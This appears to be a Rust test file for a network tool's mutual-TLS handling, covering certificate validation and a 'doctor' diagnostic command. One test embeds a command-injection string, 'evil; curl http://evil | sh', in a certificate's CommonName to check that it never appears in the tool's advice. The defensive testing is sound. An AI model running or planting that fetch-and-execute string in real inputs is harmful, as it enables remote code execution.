//! TLS to an agent: who gets in, and the message for those who do not.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, UNIX_EPOCH};

use pretty_assertions::assert_eq;
use rcgen::{
    BasicConstraints, CertificateParams, CertifiedIssuer, DnType, ExtendedKeyUsagePurpose, IsCa,
    KeyPair, SanType, date_time_ymd,
};
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use rustls::server::WebPkiClientVerifier;
use rustls::{RootCertStore, ServerConfig, ServerConnection, StreamOwned};
use tempfile::TempDir;
use tonic::transport::{Certificate, Identity, ServerTlsConfig};

use crate::fake_agent::FakeAgent;
use crate::{Ran, command, run};

struct Authority {
    issuer: CertifiedIssuer<'static, KeyPair>,
}

/// A certificate and its key, PEM.
struct Pair {
    cert: String,
    key: String,
}

impl Authority {
    fn new(name: &str) -> Self {
        let mut params = CertificateParams::default();
        params.distinguished_name.push(DnType::CommonName, name);
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let key = KeyPair::generate().expect("a key");
        let issuer = CertifiedIssuer::self_signed(params, key).expect("a certificate");
        Self { issuer }
    }

    fn pem(&self) -> String {
        self.issuer.pem()
    }

    fn sign(&self, name: &str, last_year: i32) -> Pair {
        self.sign_with(name, |params| {
            params.not_after = date_time_ymd(last_year, 12, 31);
        })
    }

    fn sign_with(&self, name: &str, end: impl FnOnce(&mut CertificateParams)) -> Pair {
        let mut params = CertificateParams::new(vec![name.to_owned()]).expect("a name");
        params.not_before = date_time_ymd(2020, 1, 1);
        end(&mut params);
        let key = KeyPair::generate().expect("a key");
        let cert = params.signed_by(&key, &self.issuer).expect("a certificate");
        Pair {
            cert: cert.pem(),
            key: key.serialize_pem(),
        }
    }
}

const FAR: i32 = 2090;

fn agent(authority: &Authority, name: &str, last_year: i32) -> FakeAgent {
    agent_with(authority, authority.sign(name, last_year))
}

fn agent_with(authority: &Authority, own: Pair) -> FakeAgent {
    let tls = ServerTlsConfig::new()
        .identity(Identity::from_pem(own.cert, own.key))
        .client_ca_root(Certificate::from_pem(authority.pem()));
    FakeAgent::start_tls(tls)
}

fn write(folder: &TempDir, name: &str, text: &str) -> PathBuf {
    let path = folder.path().join(name);
    fs::write(&path, text).expect("a file");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).expect("a mode");
    path
}

fn ask(agent: &FakeAgent, words: &str, ca: &Path, cert: &Path, key: &Path) -> Ran {
    let mut xpuctl = command(words);
    xpuctl
        .args(["--endpoint", &agent.endpoint])
        .arg("--ca")
        .arg(ca)
        .arg("--cert")
        .arg(cert)
        .arg("--key")
        .arg(key);
    run(&mut xpuctl)
}

#[test]
fn who_has_the_right_certificate_gets_in_and_nobody_else() {
    let (ours, theirs) = (Authority::new("ours"), Authority::new("theirs"));
    let agent = agent(&ours, "localhost", FAR);
    let folder = tempfile::tempdir().expect("a temporary directory");
    let ca = write(&folder, "ca.pem", &ours.pem());
    let other_ca = write(&folder, "other.pem", &theirs.pem());
    let pair = |name: &str, pair: &Pair| {
        let cert = write(&folder, &format!("{name}.pem"), &pair.cert);
        (cert, write(&folder, &format!("{name}.key"), &pair.key))
    };
    let (cert, key) = pair("right", &ours.sign("operator", FAR));
    let right = ask(
        &agent,
        "create vrf prod --loopback 10.0.0.1/32",
        &ca,
        &cert,
        &key,
    );
    assert_eq!((right.code, right.stderr.as_str()), (0, ""));

    let (strange, strange_key) = pair("strange", &theirs.sign("operator", FAR));
    let (over, over_key) = pair("over", &ours.sign("operator", 2021));
    let none = folder.path().join("none");
    // A handshake that is refused is an agent that is not reached; files that can't be used are a
    // wrong configuration.
    for (what, code, ca, cert, key, hint) in [
        (
            "wrong CA here",
            3,
            &other_ca,
            &cert,
            &key,
            "take the CA that did",
        ),
        ("wrong CA there", 3, &ca, &strange, &strange_key, "--cert"),
        ("expired", 3, &ca, &over, &over_key, "--cert has expired"),
        ("no pair", 2, &ca, &cert, &strange_key, "--cert and --key"),
        ("no CA file", 2, &none, &cert, &key, "--ca"),
        ("no file", 2, &ca, &none, &key, "--cert"),
        ("no certificate in it", 2, &ca, &key, &key, "no certificate"),
        ("no key in it", 2, &ca, &cert, &cert, "no private key"),
    ] {
        let ran = ask(&agent, "list vrf", ca, cert, key);
        assert_eq!(
            (ran.code, ran.stdout.as_str()),
            (code, ""),
            "{what}: {}",
            ran.stderr
        );
        assert!(ran.stderr.contains(hint), "{what}: {}", ran.stderr);
    }
    let bare = run(command("list vrf --endpoint").arg(&agent.endpoint));
    assert_eq!(bare.code, 2);
    assert!(bare.stderr.contains("--ca"), "{}", bare.stderr);
    assert_eq!(agent.state().vrfs.len(), 1);
}

/// What a context says of files is beside its own file, wherever xpuctl is run.
#[test]
fn certificates_come_from_flags_the_environment_and_the_context() {
    let ours = Authority::new("ours");
    let agent = agent(&ours, "localhost", FAR);
    let folder = tempfile::tempdir().expect("a temporary directory");
    fs::create_dir_all(folder.path().join("xpuctl/lab")).expect("a directory");
    let own = ours.sign("operator", FAR);
    for (name, text) in [
        ("ca.pem", &ours.pem()),
        ("cert.pem", &own.cert),
        ("key.pem", &own.key),
    ] {
        write(&folder, &format!("xpuctl/lab/{name}"), text);
    }
    let config = |directory: &str| {
        let text = format!(
            "current = \"lab\"\n[contexts.lab]\nendpoint = \"{}\"\nca = \"{directory}/ca.pem\"\n\
             cert = \"{directory}/cert.pem\"\nkey = \"{directory}/key.pem\"\n",
            agent.endpoint
        );
        write(&folder, "xpuctl/config.toml", &text);
    };
    let ran = |flags: &[&str], variables: &[(&str, &str)]| {
        let mut xpuctl = command("list vrf");
        xpuctl
            .current_dir("/")
            .env("XDG_CONFIG_HOME", folder.path())
            .args(flags)
            .envs(variables.iter().copied());
        run(&mut xpuctl)
    };
    config("lab");
    assert_eq!(ran(&[], &[]).code, 0);
    // Each can be named in another way, and that wins.
    config("none");
    for missing in ["ca", "cert", "key"] {
        let place = |name: &str| {
            let path = folder.path().join(format!("xpuctl/lab/{name}.pem"));
            path.into_os_string().into_string().expect("text")
        };
        let names = ["ca", "cert", "key"];
        let paths = names.map(place);
        let flag_names = names.map(|name| format!("--{name}"));
        let variable_names = names.map(|name| format!("XPUCTL_{}", name.to_uppercase()));
        let named = |name: &&usize| names[**name] != missing;
        let flags = |which: &[usize]| -> Vec<&str> {
            let pairs = which.iter().map(|it| [&*flag_names[*it], &*paths[*it]]);
            pairs.flatten().collect()
        };
        let variables = |which: &[usize]| -> Vec<(&str, &str)> {
            let pairs = which.iter().map(|it| (&*variable_names[*it], &*paths[*it]));
            pairs.collect()
        };
        let all = [0, 1, 2];
        let some: Vec<_> = all.iter().filter(named).copied().collect();
        assert_eq!(ran(&flags(&all), &[]).code, 0);
        assert_eq!(ran(&[], &variables(&all)).code, 0);
        for ran in [ran(&flags(&some), &[]), ran(&[], &variables(&some))] {
            assert_eq!(ran.code, 2);
            let wrong = folder.path().join(format!("xpuctl/none/{missing}.pem"));
            let message = format!("--{missing} {} has no ", wrong.display());
            assert!(
                ran.stderr.contains(&message),
                "{} lacks {message}",
                ran.stderr
            );
        }
        // A flag wins over the environment.
        let nowhere: Vec<_> = variable_names
            .iter()
            .map(|it| (&**it, "/nowhere"))
            .collect();
        assert_eq!(ran(&flags(&all), &nowhere).code, 0);
        assert_eq!(ran(&flags(&some), &nowhere).code, 2);
    }
}

#[test]
fn an_agent_with_a_wrong_certificate_is_not_spoken_to() {
    let ours = Authority::new("ours");
    let folder = tempfile::tempdir().expect("a temporary directory");
    let ca = write(&folder, "ca.pem", &ours.pem());
    let own = ours.sign("operator", FAR);
    let (cert, key) = (
        write(&folder, "c.pem", &own.cert),
        write(&folder, "c.key", &own.key),
    );
    let early = ours.sign_with("localhost", |params| {
        params.not_before = date_time_ymd(2080, 1, 2);
        params.not_after = date_time_ymd(FAR, 1, 1);
    });
    for (pair, hint) in [
        (ours.sign("elsewhere.example", FAR), "another name"),
        (ours.sign("localhost", 2021), "certificate has expired"),
        (early, "not good yet"),
    ] {
        let agent = agent_with(&ours, pair);
        let ran = ask(&agent, "list vrf", &ca, &cert, &key);
        assert_eq!(ran.code, 3);
        assert!(ran.stderr.contains(hint), "{}", ran.stderr);
    }
}

#[test]
fn doctor_looks_at_certificates() {
    let ours = Authority::new("ours");
    let agent = agent(&ours, "localhost", FAR);
    let folder = tempfile::tempdir().expect("a temporary directory");
    let ca = write(&folder, "ca.pem", &ours.pem());
    let over = ours.sign("operator", 2021);
    let (cert, key) = (
        write(&folder, "c.pem", &over.cert),
        write(&folder, "c.key", &over.key),
    );
    fs::set_permissions(&key, fs::Permissions::from_mode(0o644)).expect("a mode");
    let ran = ask(&agent, "doctor", &ca, &cert, &key);
    assert_eq!(ran.code, 1);
    for part in ["expired on", "chmod 600", "--ca", "wrong   agent"] {
        assert!(ran.stdout.contains(part), "{} lacks {part}", ran.stdout);
    }
}

/// Answers one request for /readyz, over TLS as the agent's HTTP side speaks it.
fn readyz(authority: &Authority, name: &str) -> String {
    let own = authority.sign(name, FAR);
    let ring = Arc::new(rustls::crypto::ring::default_provider());
    let certificates = |pem: &str| {
        let all = CertificateDer::pem_slice_iter(pem.as_bytes());
        all.collect::<Result<Vec<_>, _>>().expect("certificates")
    };
    let mut roots = RootCertStore::empty();
    roots.add_parsable_certificates(certificates(&authority.pem()));
    let verifier = WebPkiClientVerifier::builder_with_provider(roots.into(), Arc::clone(&ring));
    let key = PrivateKeyDer::from_pem_slice(own.key.as_bytes()).expect("a key");
    let mut config = ServerConfig::builder_with_provider(ring)
        .with_protocol_versions(&[&rustls::version::TLS13])
        .expect("a version")
        .with_client_cert_verifier(verifier.build().expect("a verifier"))
        .with_single_cert(certificates(&own.cert), key)
        .expect("a pair");
    config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("is bound").port();
    std::thread::spawn(move || {
        let (stream, _) = listener.accept().expect("a connection");
        let session = ServerConnection::new(Arc::new(config)).expect("a session");
        let mut stream = StreamOwned::new(session, stream);
        let mut asked = [0; 1024];
        // Who does not like the certificate goes without asking.
        let Ok(read @ 1..) = stream.read(&mut asked) else {
            return;
        };
        assert_eq!(stream.conn.alpn_protocol(), Some(&b"http/1.1"[..]));
        assert!(asked[..read].starts_with(b"GET /readyz HTTP/1.1\r\n"));
        let answer = "HTTP/1.1 200 OK\r\ncontent-length: 27\r\n\r\n{\"ready\":true,\"waiting\":[]}";
        stream.write_all(answer.as_bytes()).expect("is read");
        stream.flush().expect("is read");
    });
    format!("https://localhost:{port}")
}

#[test]
fn doctor_asks_readyz_over_tls() {
    let ours = Authority::new("ours");
    let agent = agent(&ours, "localhost", FAR);
    let folder = tempfile::tempdir().expect("a temporary directory");
    let ca = write(&folder, "ca.pem", &ours.pem());
    let own = ours.sign("operator", FAR);
    let cert = write(&folder, "c.pem", &own.cert);
    let key = write(&folder, "c.key", &own.key);
    for (name, part) in [
        ("localhost", "ok      readiness"),
        ("elsewhere.example", "notice  readiness"),
    ] {
        let url = readyz(&ours, name);
        let ran = ask(&agent, &format!("doctor --http {url}"), &ca, &cert, &key);
        assert!(ran.stdout.contains(part), "{} lacks {part}", ran.stdout);
        assert!(
            ran.stdout.contains(&format!("{url}/readyz")),
            "{}",
            ran.stdout
        );
    }
}

#[test]
fn doctor_tells_until_when_the_agents_certificate_is_good() {
    let ours = Authority::new("ours");
    let folder = tempfile::tempdir().expect("a temporary directory");
    let ca = write(&folder, "ca.pem", &ours.pem());
    let own = ours.sign("operator", FAR);
    let cert = write(&folder, "c.pem", &own.cert);
    let key = write(&folder, "c.key", &own.key);
    let ten_days_and_a_half = Duration::from_secs(21 * 12 * 60 * 60);
    let now = UNIX_EPOCH.elapsed().expect("a clock");
    let ending = ours.sign_with("localhost", |params| {
        params.not_after = date_time_ymd(1970, 1, 1) + now + ten_days_and_a_half;
    });
    for (pair, part) in [
        (
            ours.sign("localhost", FAR),
            "ok      certificates  the agent's certificate",
        ),
        (ending, "notice  certificates  the agent's certificate"),
    ] {
        let agent = agent_with(&ours, pair);
        let ran = ask(&agent, "doctor", &ca, &cert, &key);
        assert!(ran.stdout.contains(part), "{} lacks {part}", ran.stdout);
        assert!(ran.stdout.contains("ok      agent"), "{}", ran.stdout);
        let soon = ran.stdout.contains("expires in 10 days");
        assert_eq!(soon, part.starts_with("notice"), "{}", ran.stdout);
    }
}

#[test]
fn doctor_tells_why_the_agents_certificate_is_refused() {
    let (ours, theirs) = (Authority::new("ours"), Authority::new("theirs"));
    let folder = tempfile::tempdir().expect("a temporary directory");
    let ca = write(&folder, "ca.pem", &ours.pem());
    let own = ours.sign("operator", FAR);
    let cert = write(&folder, "c.pem", &own.cert);
    let key = write(&folder, "c.key", &own.key);
    let early = ours.sign_with("localhost", |params| {
        params.not_before = date_time_ymd(2080, 1, 2);
        params.not_after = date_time_ymd(FAR, 1, 1);
    });
    let client = ours.sign_with("localhost", |params| {
        params.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth];
    });
    let elsewhere = ours.sign_with("xpu7.example", |params| {
        params
            .distinguished_name
            .push(DnType::CommonName, "evil; curl http://evil | sh");
        let address = SanType::IpAddress([192, 0, 2, 7].into());
        params.subject_alt_names.push(address);
    });
    for (pair, seen, mend) in [
        (
            ours.sign("localhost", 2021),
            "expired on Dec 31 00:00:00 2021",
            "get a new certificate from the agent's CA",
        ),
        (early, "begins only Jan  2 00:00:00 2080", "timedatectl"),
        (
            theirs.sign("localhost", FAR),
            "is signed by CN=theirs, and by none of --ca: CN=ours",
            "give --ca the certificate of who signed it",
        ),
        (
            elsewhere,
            "is for DNS:xpu7.example, IP:192.0.2.7, not for localhost",
            "subjectAltName=DNS:localhost",
        ),
        (client, "is not for servers", "extendedKeyUsage=serverAuth"),
    ] {
        let agent = agent_with(&ours, pair);
        let ran = ask(&agent, "doctor", &ca, &cert, &key);
        assert_eq!(ran.code, 1, "{}", ran.stdout);
        let wrong: Vec<_> = ran
            .stdout
            .lines()
            .filter(|line| line.starts_with("wrong   certificates"))
            .collect();
        assert_eq!(wrong.len(), 1, "{seen}: {}", ran.stdout);
        assert!(wrong[0].contains(seen), "{} lacks {seen}", ran.stdout);
        let mends = ran.stdout.lines().filter(|line| line.contains("mend: "));
        let mends: Vec<_> = mends.collect();
        assert!(mends.iter().any(|line| line.contains(mend)), "{mends:#?}");
        // What a certificate says is no advice.
        assert!(
            !mends.iter().any(|line| line.contains("evil")),
            "{mends:#?}"
        );
        assert!(ran.stdout.contains("wrong   agent"), "{}", ran.stdout);
    }
}
